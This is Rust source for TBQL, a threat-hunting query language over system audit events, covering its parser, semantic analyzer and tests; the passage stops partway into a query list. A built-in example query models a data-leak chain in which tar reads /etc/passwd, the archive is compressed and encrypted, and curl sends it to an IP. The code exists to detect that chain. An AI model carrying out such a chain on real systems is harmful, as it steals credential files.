            (inner.clone(), inner.clone())
                .prop_map(|(a, b)| AttrExpr::And(Box::new(a), Box::new(b))),
            (inner.clone(), inner).prop_map(|(a, b)| AttrExpr::Or(Box::new(a), Box::new(b))),
        ]
    })
}

fn arb_op_expr() -> impl Strategy<Value = OpExpr> {
    let leaf = prop_oneof![
        Just(OpExpr::Op("read".to_string())),
        Just(OpExpr::Op("write".to_string())),
        Just(OpExpr::Op("connect".to_string())),
    ];
    leaf.prop_recursive(2, 8, 2, |inner| {
        prop_oneof![
            inner.clone().prop_map(|e| OpExpr::Not(Box::new(e))),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| OpExpr::And(Box::new(a), Box::new(b))),
            (inner.clone(), inner).prop_map(|(a, b)| OpExpr::Or(Box::new(a), Box::new(b))),
        ]
    })
}

fn arb_pattern(i: usize) -> impl Strategy<Value = Pattern> {
    (
        proptest::option::of(arb_attr_expr()),
        proptest::option::of(arb_attr_expr()),
        arb_op_expr(),
        proptest::bool::ANY,
        proptest::option::of((1u32..3, 3u32..8)),
    )
        .prop_map(move |(sf, of, op, use_path, bounds)| {
            let op = if use_path {
                PatternOp::Path {
                    arrow: Arrow::Fuzzy,
                    min: bounds.map(|(a, _)| a),
                    max: bounds.map(|(_, b)| b),
                    op: Some(op),
                }
            } else {
                PatternOp::Event(op)
            };
            Pattern {
                subject: EntityDecl { ty: EntityType::Proc, id: format!("p{i}"), filter: sf },
                op,
                object: EntityDecl { ty: EntityType::File, id: format!("f{i}"), filter: of },
                id: Some(format!("e{i}")),
                event_filter: None,
                window: None,
            }
        })
}

fn arb_query() -> impl Strategy<Value = Query> {
    proptest::collection::vec(proptest::bool::ANY, 1..4).prop_flat_map(|slots| {
        let n = slots.len();
        let patterns: Vec<_> = (0..n).map(arb_pattern).collect();
        (patterns, proptest::bool::ANY).prop_map(move |(patterns, distinct)| {
            let items = patterns
                .iter()
                .map(|p| AttrRef { base: p.subject.id.clone(), attr: None })
                .collect();
            Query {
                global_filters: vec![],
                patterns,
                relations: vec![],
                ret: ReturnClause { distinct, items },
            }
        })
    })
}

proptest! {
    /// parse(print(q)) == q for generated queries.
    #[test]
    fn printer_parser_roundtrip(q in arb_query()) {
        let text = print_query(&q);
        let reparsed = parse_tbql(&text)
            .unwrap_or_else(|e| panic!("reparse failed: {e}\n{text}"));
        prop_assert_eq!(q, reparsed, "text:\n{}", text);
    }

    /// Printing is stable: print(parse(print(q))) == print(q).
    #[test]
    fn printing_is_stable(q in arb_query()) {
        let once = print_query(&q);
        let twice = print_query(&parse_tbql(&once).unwrap());
        prop_assert_eq!(once, twice);
    }

    /// Char/word metrics: whitespace insertion never changes counts.
    #[test]
    fn metrics_ignore_whitespace(q in arb_query()) {
        let text = print_query(&q);
        let spaced = text.replace(' ', "   ").replace('\n', "\n\n");
        prop_assert_eq!(
            raptor_tbql::metrics::char_count(&text),
            raptor_tbql::metrics::char_count(&spaced)
        );
        prop_assert_eq!(
            raptor_tbql::metrics::word_count(&text),
            raptor_tbql::metrics::word_count(&spaced)
        );
    }
}
