//! TBQL — the Threat Behavior Query Language (Section III-D, Grammar 1).
//!
//! TBQL treats system entities (`file` / `proc` / `ip`) and system events as
//! first-class citizens. A query is a sequence of *TBQL patterns* — event
//! patterns (`proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1`)
//! and variable-length event path patterns (`proc p ~>(2~4)[read] file f`) —
//! plus optional global filters, a `with` clause for temporal/attribute
//! relationships between patterns, and a `return` clause.
//!
//! Syntactic sugar (resolved by [`analyze()`]):
//! * default attributes — a bare value filter `["%/bin/tar%"]` means the
//!   entity kind's default attribute (`name` for files, `exename` for
//!   processes, `dstip` for network connections); a bare entity ID in
//!   `return` likewise,
//! * entity ID reuse — using `p1` in two patterns declares them to be the
//!   same entity.
//!
//! Modules: [`lexer`] → [`parser`] → [`ast`] → [`mod@analyze`] (semantic
//! checking and desugaring) → [`mod@print`] (round-trip rendering) and
//! [`metrics`] (character/word conciseness counts for Table X).

pub mod analyze;
pub mod ast;
pub mod lexer;
pub mod metrics;
pub mod parser;
pub mod print;

pub use analyze::{analyze, AnalyzedQuery};
pub use ast::*;
pub use parser::parse_tbql;
