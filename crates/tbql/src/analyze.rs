//! Semantic analysis and desugaring.
//!
//! Resolves TBQL's syntactic sugar and validates the query:
//!
//! * entity ID reuse: all declarations of an id must agree on the entity
//!   type; their filters are AND-merged onto one canonical entity,
//! * default attributes: bare value filters become comparisons on the entity
//!   kind's default attribute; bare ids in `return` become
//!   `id.default_attribute`,
//! * operation names are validated against the system-event vocabulary,
//! * pattern ids are unique (auto-generated `_evtN` where omitted),
//! * `with` temporal clauses may only reference *event* patterns (paths have
//!   no temporal semantics — Section III-E, Step 3),
//! * attribute names are validated per entity kind / event.

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;

use crate::ast::*;

/// Valid operation names (the `⟨op⟩` rule; mirrors the audit vocabulary).
pub const OPERATIONS: [&str; 7] = ["read", "write", "execute", "start", "end", "rename", "connect"];

const FILE_ATTRS: [&str; 4] = ["name", "path", "user", "group"];
const PROC_ATTRS: [&str; 5] = ["pid", "exename", "user", "group", "cmd"];
const IP_ATTRS: [&str; 5] = ["srcip", "srcport", "dstip", "dstport", "protocol"];
const EVENT_ATTRS: [&str; 9] =
    ["id", "optype", "starttime", "endtime", "duration", "amount", "failcode", "host", "object"];

pub fn entity_attrs(ty: EntityType) -> &'static [&'static str] {
    match ty {
        EntityType::File => &FILE_ATTRS,
        EntityType::Proc => &PROC_ATTRS,
        EntityType::Ip => &IP_ATTRS,
    }
}

/// A canonical entity after ID-reuse merging.
#[derive(Clone, Debug)]
pub struct AEntity {
    pub id: String,
    pub ty: EntityType,
    /// AND of all filters declared on this id, desugared.
    pub filter: Option<AttrExpr>,
}

/// A resolved pattern.
#[derive(Clone, Debug)]
pub struct APattern {
    /// Position in the query.
    pub index: usize,
    /// Pattern id (`as evtN`, or generated `_evtN`).
    pub id: String,
    pub subject: String,
    pub object: String,
    pub op: PatternOp,
    pub event_filter: Option<AttrExpr>,
    pub window: Option<Window>,
}

/// A resolved return item.
#[derive(Clone, PartialEq, Debug)]
pub struct RetItem {
    pub base: String,
    pub attr: String,
    /// True when `base` names a pattern (event) rather than an entity.
    pub is_event: bool,
}

/// The analyzed, desugared query.
#[derive(Clone, Debug)]
pub struct AnalyzedQuery {
    pub entities: FxHashMap<String, AEntity>,
    /// Entity ids in first-appearance order (stable output ordering).
    pub entity_order: Vec<String>,
    pub patterns: Vec<APattern>,
    pub relations: Vec<RelClause>,
    pub ret: Vec<RetItem>,
    pub distinct: bool,
    pub global_windows: Vec<Window>,
    pub global_attrs: Vec<AttrExpr>,
}

impl AnalyzedQuery {
    pub fn pattern_by_id(&self, id: &str) -> Option<&APattern> {
        self.patterns.iter().find(|p| p.id == id)
    }
}

/// Desugars an attribute filter in the context of one entity: `Bare` values
/// become comparisons on the default attribute; attribute names are checked.
fn desugar_filter(e: &EntityDecl, f: &AttrExpr) -> Result<AttrExpr> {
    Ok(match f {
        AttrExpr::Bare { negated, value } => AttrExpr::Cmp {
            attr: AttrRef { base: e.ty.default_attribute().to_string(), attr: None },
            op: if *negated { CmpOp::Ne } else { CmpOp::Eq },
            value: value.clone(),
        },
        AttrExpr::Cmp { attr, op, value } => {
            check_entity_attr(e, attr)?;
            AttrExpr::Cmp { attr: attr.clone(), op: *op, value: value.clone() }
        }
        AttrExpr::InSet { attr, negated, set } => {
            check_entity_attr(e, attr)?;
            AttrExpr::InSet { attr: attr.clone(), negated: *negated, set: set.clone() }
        }
        AttrExpr::And(a, b) => {
            AttrExpr::And(Box::new(desugar_filter(e, a)?), Box::new(desugar_filter(e, b)?))
        }
        AttrExpr::Or(a, b) => {
            AttrExpr::Or(Box::new(desugar_filter(e, a)?), Box::new(desugar_filter(e, b)?))
        }
    })
}

fn check_entity_attr(e: &EntityDecl, attr: &AttrRef) -> Result<()> {
    // Inside entity brackets the attr is unqualified (`pid = 1`).
    let name = attr.attr.as_deref().unwrap_or(&attr.base);
    if entity_attrs(e.ty).contains(&name) {
        Ok(())
    } else {
        Err(Error::semantic(format!(
            "entity `{}` ({}) has no attribute `{}`",
            e.id,
            e.ty.keyword(),
            name
        )))
    }
}

fn check_op_expr(e: &OpExpr) -> Result<()> {
    for name in e.op_names() {
        if !OPERATIONS.contains(&name) {
            return Err(Error::semantic(format!("unknown operation `{name}`")));
        }
    }
    Ok(())
}

/// Analyzes a parsed query.
pub fn analyze(q: &Query) -> Result<AnalyzedQuery> {
    let mut entities: FxHashMap<String, AEntity> = FxHashMap::default();
    let mut entity_order: Vec<String> = Vec::new();
    let mut register = |decl: &EntityDecl| -> Result<()> {
        let desugared = match &decl.filter {
            Some(f) => Some(desugar_filter(decl, f)?),
            None => None,
        };
        match entities.get_mut(&decl.id) {
            Some(existing) => {
                if existing.ty != decl.ty {
                    return Err(Error::semantic(format!(
                        "entity id `{}` reused with conflicting types ({} vs {})",
                        decl.id,
                        existing.ty.keyword(),
                        decl.ty.keyword()
                    )));
                }
                if let Some(f) = desugared {
                    existing.filter = Some(match existing.filter.take() {
                        Some(old) => AttrExpr::And(Box::new(old), Box::new(f)),
                        None => f,
                    });
                }
            }
            None => {
                entities.insert(
                    decl.id.clone(),
                    AEntity { id: decl.id.clone(), ty: decl.ty, filter: desugared },
                );
                entity_order.push(decl.id.clone());
            }
        }
        Ok(())
    };

    for p in &q.patterns {
        // The subject of a system event is always a process (Section III-A).
        if p.subject.ty != EntityType::Proc {
            return Err(Error::semantic(format!(
                "pattern subject `{}` must be a proc entity",
                p.subject.id
            )));
        }
        register(&p.subject)?;
        register(&p.object)?;
        match &p.op {
            PatternOp::Event(e) => check_op_expr(e)?,
            PatternOp::Path { arrow, min, max, op } => {
                if let Some(e) = op {
                    check_op_expr(e)?;
                }
                if *arrow == Arrow::Single && (min.is_some() || max.is_some()) {
                    return Err(Error::semantic(
                        "`->` paths have length exactly 1; length bounds need `~>`",
                    ));
                }
                if let (Some(lo), Some(hi)) = (min, max) {
                    if lo > hi {
                        return Err(Error::semantic(format!(
                            "path length range {lo}~{hi} is empty"
                        )));
                    }
                }
            }
        }
    }

    // Pattern ids.
    let mut seen_ids: FxHashMap<String, ()> = FxHashMap::default();
    let mut patterns = Vec::with_capacity(q.patterns.len());
    for (i, p) in q.patterns.iter().enumerate() {
        let id = match &p.id {
            Some(id) => {
                if seen_ids.insert(id.clone(), ()).is_some() {
                    return Err(Error::semantic(format!("duplicate pattern id `{id}`")));
                }
                if entities.contains_key(id) {
                    return Err(Error::semantic(format!(
                        "pattern id `{id}` collides with an entity id"
                    )));
                }
                id.clone()
            }
            None => {
                let id = format!("_evt{i}");
                seen_ids.insert(id.clone(), ());
                id
            }
        };
        patterns.push(APattern {
            index: i,
            id,
            subject: p.subject.id.clone(),
            object: p.object.id.clone(),
            op: p.op.clone(),
            event_filter: p.event_filter.clone(),
            window: p.window.clone(),
        });
    }

    // Relations.
    for r in &q.relations {
        match r {
            RelClause::Temporal { left, right, range, .. } => {
                for id in [left, right] {
                    let p = patterns
                        .iter()
                        .find(|p| &p.id == id)
                        .ok_or_else(|| Error::semantic(format!("unknown pattern id `{id}`")))?;
                    // Event patterns and paths with an identifiable final
                    // hop (a `->` single hop, or `~>` with a final-hop op of
                    // length 1) carry event timestamps; open variable-length
                    // paths do not (Section III-E, Step 3).
                    if !p.has_final_hop() {
                        return Err(Error::semantic(format!(
                            "temporal relationship references path pattern `{id}`; \
                             event paths have no temporal relationships"
                        )));
                    }
                }
                if let Some((lo, hi, unit)) = range {
                    if lo > hi {
                        return Err(Error::semantic(format!("empty temporal range {lo}-{hi}")));
                    }
                    if raptor_common::time::Duration::from_unit(1, unit).is_none() {
                        return Err(Error::semantic(format!("unknown time unit `{unit}`")));
                    }
                }
            }
            RelClause::Attr { left, op: _, right } => {
                for a in [left, right] {
                    let ent = entities.get(&a.base).ok_or_else(|| {
                        Error::semantic(format!("unknown entity `{}` in with clause", a.base))
                    })?;
                    let name = a.attr.as_deref().unwrap_or("");
                    if !entity_attrs(ent.ty).contains(&name) {
                        return Err(Error::semantic(format!(
                            "entity `{}` has no attribute `{name}`",
                            a.base
                        )));
                    }
                }
            }
        }
    }

    // Return clause: bare entity ids get the default attribute.
    let mut ret = Vec::with_capacity(q.ret.items.len());
    for item in &q.ret.items {
        if let Some(ent) = entities.get(&item.base) {
            let attr = match &item.attr {
                Some(a) => {
                    if !entity_attrs(ent.ty).contains(&a.as_str()) {
                        return Err(Error::semantic(format!(
                            "entity `{}` has no attribute `{a}`",
                            item.base
                        )));
                    }
                    a.clone()
                }
                None => ent.ty.default_attribute().to_string(),
            };
            ret.push(RetItem { base: item.base.clone(), attr, is_event: false });
        } else if patterns.iter().any(|p| p.id == item.base) {
            let attr = item.attr.clone().unwrap_or_else(|| "id".to_string());
            if !EVENT_ATTRS.contains(&attr.as_str()) {
                return Err(Error::semantic(format!("events have no attribute `{attr}`")));
            }
            ret.push(RetItem { base: item.base.clone(), attr, is_event: true });
        } else {
            return Err(Error::semantic(format!(
                "unknown identifier `{}` in return clause",
                item.base
            )));
        }
    }

    let mut global_windows = Vec::new();
    let mut global_attrs = Vec::new();
    for g in &q.global_filters {
        match g {
            GlobalFilter::Window(w) => global_windows.push(w.clone()),
            GlobalFilter::Attr(a) => global_attrs.push(a.clone()),
        }
    }

    Ok(AnalyzedQuery {
        entities,
        entity_order,
        patterns,
        relations: q.relations.clone(),
        ret,
        distinct: q.ret.distinct,
        global_windows,
        global_attrs,
    })
}

impl APattern {
    pub fn is_path(&self) -> bool {
        matches!(self.op, PatternOp::Path { .. })
    }

    /// Does this pattern bind exactly one concrete event (so timestamps
    /// exist for temporal relationships and event-attribute returns)?
    /// True for event patterns and length-1 paths; variable-length paths
    /// match whole event chains and carry no single timestamp.
    pub fn has_final_hop(&self) -> bool {
        match &self.op {
            PatternOp::Event(_) => true,
            PatternOp::Path { arrow: Arrow::Single, .. } => true,
            PatternOp::Path { min, max, .. } => *min == Some(1) && *max == Some(1),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::{parse_tbql, FIG2_QUERY};

    #[test]
    fn figure2_analyzes() {
        let q = parse_tbql(FIG2_QUERY).unwrap();
        let a = analyze(&q).unwrap();
        assert_eq!(a.entities.len(), 9); // p1-p4, f1-f4, i1
        assert_eq!(a.patterns.len(), 8);
        assert!(a.distinct);
        // Bare return ids desugar to default attributes.
        assert_eq!(
            a.ret[0],
            RetItem { base: "p1".into(), attr: "exename".into(), is_event: false }
        );
        assert_eq!(a.ret[1], RetItem { base: "f1".into(), attr: "name".into(), is_event: false });
        assert_eq!(a.ret[8], RetItem { base: "i1".into(), attr: "dstip".into(), is_event: false });
        // Bare value filter desugars to default attribute comparison.
        let p1 = &a.entities["p1"];
        match p1.filter.as_ref().unwrap() {
            AttrExpr::Cmp { attr, op: CmpOp::Eq, value: Value::Str(s) } => {
                assert_eq!(attr.base, "exename");
                assert_eq!(s, "%/bin/tar%");
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn id_reuse_merges_filters() {
        let q = parse_tbql(r#"proc p["%tar%"] read file f proc p[pid = 7] write file g return f"#)
            .unwrap();
        let a = analyze(&q).unwrap();
        assert!(matches!(a.entities["p"].filter, Some(AttrExpr::And(_, _))));
    }

    #[test]
    fn id_reuse_type_conflict() {
        let q = parse_tbql("proc x read file f proc p read file x return f").unwrap();
        let err = analyze(&q).unwrap_err();
        assert!(err.to_string().contains("conflicting types"));
    }

    #[test]
    fn subject_must_be_proc() {
        let q = parse_tbql("file f read file g return f").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("must be a proc"));
    }

    #[test]
    fn unknown_operation_rejected() {
        let q = parse_tbql("proc p frobnicate file f return f").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("unknown operation"));
    }

    #[test]
    fn unknown_attribute_rejected() {
        let q = parse_tbql("proc p[color = 1] read file f return f").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("no attribute"));
        let q = parse_tbql("proc p read file f return f.dstip").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("no attribute"));
    }

    #[test]
    fn temporal_on_path_rejected() {
        let q = parse_tbql(
            "proc p ~>[read] file f as e1 proc p read file g as e2 with e1 before e2 return f",
        )
        .unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("no temporal relationships"));
    }

    #[test]
    fn duplicate_pattern_ids_rejected() {
        let q = parse_tbql("proc p read file f as e proc p write file g as e return f").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("duplicate pattern id"));
    }

    #[test]
    fn event_return_items() {
        let q = parse_tbql("proc p read file f as e1 return e1.amount, f").unwrap();
        let a = analyze(&q).unwrap();
        assert!(a.ret[0].is_event);
        assert_eq!(a.ret[0].attr, "amount");
    }

    #[test]
    fn empty_path_range_rejected() {
        let q = parse_tbql("proc p ~>(4~2)[read] file f return f").unwrap();
        assert!(analyze(&q).unwrap_err().to_string().contains("empty"));
    }

    #[test]
    fn global_filters_collected() {
        let q = parse_tbql("last 2 h proc p read file f return f").unwrap();
        let a = analyze(&q).unwrap();
        assert_eq!(a.global_windows.len(), 1);
    }
}
