//! Recursive-descent TBQL parser (Grammar 1).

use raptor_common::error::{Error, Result};
use raptor_common::time::{parse_datetime, Timestamp};

use crate::ast::*;
use crate::lexer::{lex, Token, TokenKind};

const ENTITY_KEYWORDS: [&str; 3] = ["file", "proc", "ip"];
const WINDOW_KEYWORDS: [&str; 5] = ["from", "at", "before", "after", "last"];

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        &self.tokens[self.pos]
    }

    fn peek2(&self) -> Option<&Token> {
        self.tokens.get(self.pos + 1)
    }

    fn advance(&mut self) -> Token {
        let t = self.tokens[self.pos].clone();
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn at_word(&self, w: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Word(x) if x == w)
    }

    fn eat_word(&mut self, w: &str) -> bool {
        if self.at_word(w) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn at_symbol(&self, s: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Symbol(sym) if *sym == s)
    }

    fn eat_symbol(&mut self, s: &str) -> bool {
        if self.at_symbol(s) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_symbol(&mut self, s: &str) -> Result<()> {
        if self.eat_symbol(s) {
            Ok(())
        } else {
            Err(self.unexpected(&format!("expected `{s}`")))
        }
    }

    fn unexpected(&self, want: &str) -> Error {
        Error::syntax(format!("{want}, found {}", self.peek().kind.describe()), self.peek().offset)
    }

    fn word(&mut self) -> Result<String> {
        match self.peek().kind.clone() {
            TokenKind::Word(w) => {
                self.advance();
                Ok(w)
            }
            _ => Err(self.unexpected("expected identifier")),
        }
    }

    fn int(&mut self) -> Result<i64> {
        match self.peek().kind.clone() {
            TokenKind::Int(n) => {
                self.advance();
                Ok(n)
            }
            _ => Err(self.unexpected("expected integer")),
        }
    }

    fn value(&mut self) -> Result<Value> {
        match self.peek().kind.clone() {
            TokenKind::Int(n) => {
                self.advance();
                Ok(Value::Int(n))
            }
            TokenKind::Str(s) => {
                self.advance();
                Ok(Value::Str(s))
            }
            _ => Err(self.unexpected("expected value")),
        }
    }

    fn datetime(&mut self) -> Result<Timestamp> {
        match self.peek().kind.clone() {
            TokenKind::Str(s) => {
                let offset = self.peek().offset;
                self.advance();
                parse_datetime(&s)
                    .ok_or_else(|| Error::syntax(format!("invalid datetime `{s}`"), offset))
            }
            TokenKind::Int(n) => {
                self.advance();
                Ok(Timestamp(n))
            }
            _ => Err(self.unexpected("expected datetime")),
        }
    }

    fn at_entity_type(&self) -> bool {
        matches!(&self.peek().kind, TokenKind::Word(w) if ENTITY_KEYWORDS.contains(&w.as_str()))
    }

    fn at_window(&self) -> bool {
        matches!(&self.peek().kind, TokenKind::Word(w) if WINDOW_KEYWORDS.contains(&w.as_str()))
    }

    fn window(&mut self) -> Result<Window> {
        if self.eat_word("from") {
            let a = self.datetime()?;
            if !self.eat_word("to") {
                return Err(self.unexpected("expected `to`"));
            }
            let b = self.datetime()?;
            return Ok(Window::FromTo(a, b));
        }
        if self.eat_word("at") {
            return Ok(Window::At(self.datetime()?));
        }
        if self.eat_word("before") {
            return Ok(Window::Before(self.datetime()?));
        }
        if self.eat_word("after") {
            return Ok(Window::After(self.datetime()?));
        }
        if self.eat_word("last") {
            let n = self.int()?;
            let unit = self.word()?;
            return Ok(Window::Last { n, unit });
        }
        Err(self.unexpected("expected time window"))
    }

    // --- attribute expressions ---

    fn attr_expr(&mut self) -> Result<AttrExpr> {
        let mut left = self.attr_and()?;
        while self.eat_symbol("||") {
            let right = self.attr_and()?;
            left = AttrExpr::Or(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn attr_and(&mut self) -> Result<AttrExpr> {
        let mut left = self.attr_primary()?;
        while self.eat_symbol("&&") {
            let right = self.attr_primary()?;
            left = AttrExpr::And(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn attr_primary(&mut self) -> Result<AttrExpr> {
        if self.eat_symbol("(") {
            let e = self.attr_expr()?;
            self.expect_symbol(")")?;
            return Ok(e);
        }
        if self.eat_symbol("!") {
            let v = self.value()?;
            return Ok(AttrExpr::Bare { negated: true, value: v });
        }
        match self.peek().kind.clone() {
            TokenKind::Str(_) | TokenKind::Int(_) => {
                let v = self.value()?;
                Ok(AttrExpr::Bare { negated: false, value: v })
            }
            TokenKind::Word(_) => {
                let base = self.word()?;
                let attr = if self.eat_symbol(".") {
                    AttrRef { base, attr: Some(self.word()?) }
                } else {
                    AttrRef { base, attr: None }
                };
                // `not in`, `in`, or comparison.
                let negated = self.eat_word("not");
                if self.eat_word("in") {
                    self.expect_symbol("(")?;
                    let mut set = vec![self.value()?];
                    while self.eat_symbol(",") {
                        set.push(self.value()?);
                    }
                    self.expect_symbol(")")?;
                    return Ok(AttrExpr::InSet { attr, negated, set });
                }
                if negated {
                    return Err(self.unexpected("expected `in` after `not`"));
                }
                let op = self.cmp_op()?;
                let value = self.value()?;
                Ok(AttrExpr::Cmp { attr, op, value })
            }
            _ => Err(self.unexpected("expected attribute expression")),
        }
    }

    fn cmp_op(&mut self) -> Result<CmpOp> {
        let op = match &self.peek().kind {
            TokenKind::Symbol("=") => CmpOp::Eq,
            TokenKind::Symbol("!=") => CmpOp::Ne,
            TokenKind::Symbol("<") => CmpOp::Lt,
            TokenKind::Symbol("<=") => CmpOp::Le,
            TokenKind::Symbol(">") => CmpOp::Gt,
            TokenKind::Symbol(">=") => CmpOp::Ge,
            _ => return Err(self.unexpected("expected comparison operator")),
        };
        self.advance();
        Ok(op)
    }

    // --- operation expressions ---

    fn op_expr(&mut self) -> Result<OpExpr> {
        let mut left = self.op_and()?;
        while self.eat_symbol("||") {
            let right = self.op_and()?;
            left = OpExpr::Or(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn op_and(&mut self) -> Result<OpExpr> {
        let mut left = self.op_primary()?;
        while self.eat_symbol("&&") {
            let right = self.op_primary()?;
            left = OpExpr::And(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn op_primary(&mut self) -> Result<OpExpr> {
        if self.eat_symbol("!") {
            return Ok(OpExpr::Not(Box::new(self.op_primary()?)));
        }
        if self.eat_symbol("(") {
            let e = self.op_expr()?;
            self.expect_symbol(")")?;
            return Ok(e);
        }
        Ok(OpExpr::Op(self.word()?))
    }

    // --- entities and patterns ---

    fn entity(&mut self) -> Result<EntityDecl> {
        let ty = match self.word()?.as_str() {
            "file" => EntityType::File,
            "proc" => EntityType::Proc,
            "ip" => EntityType::Ip,
            other => {
                return Err(self
                    .unexpected(&format!("expected entity type (file/proc/ip), found `{other}`")))
            }
        };
        let id = self.word()?;
        let filter = if self.eat_symbol("[") {
            let f = self.attr_expr()?;
            self.expect_symbol("]")?;
            Some(f)
        } else {
            None
        };
        Ok(EntityDecl { ty, id, filter })
    }

    fn pattern(&mut self) -> Result<Pattern> {
        let subject = self.entity()?;
        let op = if self.at_symbol("~>") || self.at_symbol("->") {
            let arrow = if self.eat_symbol("~>") {
                Arrow::Fuzzy
            } else {
                self.expect_symbol("->")?;
                Arrow::Single
            };
            // Optional length bounds `(m~n)` / `(m~)` / `(~n)` / `(n)`.
            let (mut min, mut max) = (None, None);
            if self.eat_symbol("(") {
                if let TokenKind::Int(_) = self.peek().kind {
                    min = Some(self.int()? as u32);
                }
                if self.eat_symbol("~") {
                    if let TokenKind::Int(_) = self.peek().kind {
                        max = Some(self.int()? as u32);
                    }
                } else {
                    max = min; // `(n)` = exactly n
                }
                self.expect_symbol(")")?;
            }
            // Optional final-hop operation `[op_exp]`.
            let op = if self.eat_symbol("[") {
                let e = self.op_expr()?;
                self.expect_symbol("]")?;
                Some(e)
            } else {
                None
            };
            PatternOp::Path { arrow, min, max, op }
        } else {
            PatternOp::Event(self.op_expr()?)
        };
        let object = self.entity()?;
        let (id, event_filter) = if self.eat_word("as") {
            let id = self.word()?;
            let f = if self.eat_symbol("[") {
                let f = self.attr_expr()?;
                self.expect_symbol("]")?;
                Some(f)
            } else {
                None
            };
            (Some(id), f)
        } else {
            (None, None)
        };
        // A pattern-level window must not swallow the `with` clause's ids;
        // window keywords here are only `from/at/last` plus `before/after`
        // *followed by a datetime-looking token*.
        let window = if self.at_window() && !self.window_is_rel_clause() {
            Some(self.window()?)
        } else {
            None
        };
        Ok(Pattern { subject, op, object, id, event_filter, window })
    }

    /// Disambiguates `before`/`after` at pattern end: they open a window
    /// only when followed by a datetime (string/int); in `with` clauses they
    /// sit between two identifiers — but `with` is consumed separately, so
    /// here only the datetime form can occur. Kept for safety.
    fn window_is_rel_clause(&self) -> bool {
        if self.at_word("before") || self.at_word("after") {
            !matches!(
                self.peek2().map(|t| &t.kind),
                Some(TokenKind::Str(_)) | Some(TokenKind::Int(_))
            )
        } else {
            false
        }
    }

    fn rel_clause_item(&mut self) -> Result<RelClause> {
        let base = self.word()?;
        if self.eat_symbol(".") {
            // Attribute relationship: `p1.pid = p2.pid`.
            let attr = self.word()?;
            let op = self.cmp_op()?;
            let rbase = self.word()?;
            self.expect_symbol(".")?;
            let rattr = self.word()?;
            return Ok(RelClause::Attr {
                left: AttrRef { base, attr: Some(attr) },
                op,
                right: AttrRef { base: rbase, attr: Some(rattr) },
            });
        }
        let op = if self.eat_word("before") {
            TemporalOp::Before
        } else if self.eat_word("after") {
            TemporalOp::After
        } else if self.eat_word("within") {
            TemporalOp::Within
        } else {
            return Err(self.unexpected("expected `before`, `after` or `within`"));
        };
        let range = if self.eat_symbol("[") {
            let lo = self.int()?;
            self.expect_symbol("-")?;
            let hi = self.int()?;
            let unit = self.word()?;
            self.expect_symbol("]")?;
            Some((lo, hi, unit))
        } else {
            None
        };
        let right = self.word()?;
        Ok(RelClause::Temporal { left: base, op, range, right })
    }

    fn return_clause(&mut self) -> Result<ReturnClause> {
        if !self.eat_word("return") {
            return Err(self.unexpected("expected `return`"));
        }
        let distinct = self.eat_word("distinct");
        let mut items = Vec::new();
        loop {
            let base = self.word()?;
            let attr = if self.eat_symbol(".") { Some(self.word()?) } else { None };
            items.push(AttrRef { base, attr });
            if !self.eat_symbol(",") {
                break;
            }
        }
        Ok(ReturnClause { distinct, items })
    }

    fn query(&mut self) -> Result<Query> {
        let mut global_filters = Vec::new();
        // Global filters come before the first pattern.
        while !self.at_entity_type() {
            if self.at_window() {
                global_filters.push(GlobalFilter::Window(self.window()?));
            } else if matches!(
                self.peek().kind,
                TokenKind::Word(_) | TokenKind::Str(_) | TokenKind::Int(_)
            ) && !self.at_word("return")
                && !self.at_word("with")
            {
                global_filters.push(GlobalFilter::Attr(self.attr_expr()?));
            } else {
                break;
            }
        }
        let mut patterns = Vec::new();
        while self.at_entity_type() {
            patterns.push(self.pattern()?);
        }
        if patterns.is_empty() {
            return Err(self.unexpected("expected at least one pattern"));
        }
        let mut relations = Vec::new();
        if self.eat_word("with") {
            relations.push(self.rel_clause_item()?);
            while self.eat_symbol(",") {
                relations.push(self.rel_clause_item()?);
            }
        }
        let ret = self.return_clause()?;
        if !matches!(self.peek().kind, TokenKind::Eof) {
            return Err(self.unexpected("expected end of query"));
        }
        Ok(Query { global_filters, patterns, relations, ret })
    }
}

/// Parses one TBQL query.
pub fn parse_tbql(text: &str) -> Result<Query> {
    let tokens = lex(text)?;
    let mut p = Parser { tokens, pos: 0 };
    p.query()
}

/// The Figure 2 query, used in tests and docs across the workspace.
pub const FIG2_QUERY: &str = r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1
proc p1 write file f2["%/tmp/upload.tar%"] as evt2
proc p2["%/bin/bzip2%"] read file f2 as evt3
proc p2 write file f3["%/tmp/upload.tar.bz2%"] as evt4
proc p3["%/usr/bin/gpg%"] read file f3 as evt5
proc p3 write file f4["%/tmp/upload%"] as evt6
proc p4["%/usr/bin/curl%"] read file f4 as evt7
proc p4 connect ip i1["192.168.29.128"] as evt8
with evt1 before evt2, evt2 before evt3, evt3 before evt4, evt4 before evt5,
evt5 before evt6, evt6 before evt7, evt7 before evt8
return distinct p1, f1, f2, p2, f3, p3, f4, p4, i1"#;

/// The 8-query backend-equivalence corpus, shared by the equivalence tests,
/// the scheduler's order-pinning tests and the `bench_smoke` CI gate. Every
/// query stays inside the fragment the giant compiled baselines support
/// (event patterns, plain `before`/`after`), matches the data-leak scenario
/// the corpus simulators stage, and must return identical `sorted_rows()`
/// under every execution mode and scheduler order.
pub const EQUIV_CORPUS: &[&str] = &[
